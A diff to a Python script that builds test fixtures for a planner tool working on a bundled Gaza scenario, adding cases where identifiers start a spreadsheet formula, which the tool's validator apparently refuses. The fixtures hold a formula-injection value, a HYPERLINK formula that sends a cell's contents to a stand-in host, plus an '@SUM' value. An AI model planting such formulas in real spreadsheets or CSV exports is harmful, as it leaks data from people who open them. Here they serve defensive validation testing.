@@ -146,6 +146,25 @@ def scenarios():
     write("scenarios/crs-in-feet/scenario.yaml", text.replace("crs: EPSG:32636", "crs: EPSG:2263"))
 
 
+FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
+
+
+def formulas():
+    """Identifiers that would start a spreadsheet formula, where a scenario or a plan names
+    them: refused (they keep to planner.files.format.ID_PATTERN)."""
+    source = HERE.parents[2] / "data" / "gaza-isf"
+    gaza_copy("formula-sector-id", skip="sectors")
+    doc = json.loads((source / "sectors.geojson").read_text(encoding="utf-8"))
+    doc["features"][0]["properties"]["sector_id"] = FORMULA
+    write("scenarios/formula-sector-id/sectors.geojson", doc)
+    folder = gaza_copy("formula-contingent-code")
+    text = (folder / "scenario.yaml").read_text(encoding="utf-8")
+    write("scenarios/formula-contingent-code/scenario.yaml",
+          text.replace("code: QAT", "code: '@SUM(1+1)'"))
+    write("plans/formula-sector-id.csv", "phase,sector_id,nation,troops,lead\n"
+                                          f"1,\"{FORMULA.replace(chr(34), chr(34) * 2)}\",IDN,300,true\n")
+
+
 def gaza_copy(case, skip=None) -> Path:
     """The bundled scenario copied to scenarios/<case>/, without the layer ``skip``."""
     source, target = HERE.parents[2] / "data" / "gaza-isf", HERE / "scenarios" / case
@@ -161,4 +180,5 @@ if __name__ == "__main__":
     layers()
     plans()
     scenarios()
+    formulas()
     print("corpus:", sum(1 for p in HERE.rglob("*") if p.is_file() and p.suffix != ".py"))
